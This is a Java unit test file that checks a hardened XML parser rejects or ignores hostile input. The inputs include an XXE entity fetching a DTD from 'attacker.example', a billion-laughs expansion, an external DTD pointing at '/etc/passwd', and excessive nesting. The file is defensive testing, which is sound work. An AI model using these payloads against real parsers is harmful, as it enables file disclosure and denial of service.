package dev.conveyor.core.score;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

class SecureXmlTests {
  @Test
  void parse_realJacocoDoctype_isAllowedButNeverFetched() {
    // report.dtd does not exist anywhere near: reading it would fail.
    XmlElement root = SecureXml.parse(Fixtures.text("jacoco.xml"), "jacoco.xml");

    assertThat(root.name()).isEqualTo("report");
  }

  @Test
  void parse_externalParameterEntity_isRefused() {
    String xml =
        """
        <?xml version="1.0"?>
        <!DOCTYPE report [
          <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
          %remote;
        ]>
        <report/>
        """;

    assertThatThrownBy(() -> SecureXml.parse(xml, "evil.xml"))
        .isInstanceOf(ReportException.class)
        .hasMessageStartingWith("evil.xml:3:63: the report declares the entity '%remote';");
  }

  @Test
  void parse_billionLaughs_isRefusedAtTheFirstDeclaration() {
    String xml =
        """
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
        ]>
        <lolz>&lol2;</lolz>
        """;

    assertThatThrownBy(() -> SecureXml.parse(xml, "lolz.xml"))
        .isInstanceOf(ReportException.class)
        .hasMessageStartingWith("lolz.xml:2:22: the report declares the entity 'lol';");
  }

  @Test
  void parse_externalDtdOnly_isNeverRead() {
    String xml = "<!DOCTYPE report SYSTEM \"file:///etc/passwd\"><report/>";

    assertThat(SecureXml.parse(xml, "dtd.xml").name()).isEqualTo("report");
  }

  @Test
  void parse_deepNesting_isRefused() {
    String xml = "<a>".repeat(SecureXml.MAX_DEPTH + 1) + "</a>".repeat(SecureXml.MAX_DEPTH + 1);

    assertThatThrownBy(() -> SecureXml.parse(xml, "deep.xml"))
        .isInstanceOf(ReportException.class)
        .hasMessage("deep.xml:1:196: elements nest deeper than 64 levels; no real report does");
  }

  @Test
  void parse_notXml_namesTheFirstPosition() {
    assertThatThrownBy(() -> SecureXml.parse("tests passed", "out.txt"))
        .isInstanceOf(ReportException.class)
        .hasMessage("out.txt:1:1: malformed XML: Content is not allowed in prolog.");
  }

  @Test
  void parse_empty_saysSo() {
    assertThatThrownBy(() -> SecureXml.parse("", "empty.xml"))
        .isInstanceOf(ReportException.class)
        .hasMessage("empty.xml:1:1: malformed XML: Premature end of file.");
  }
}
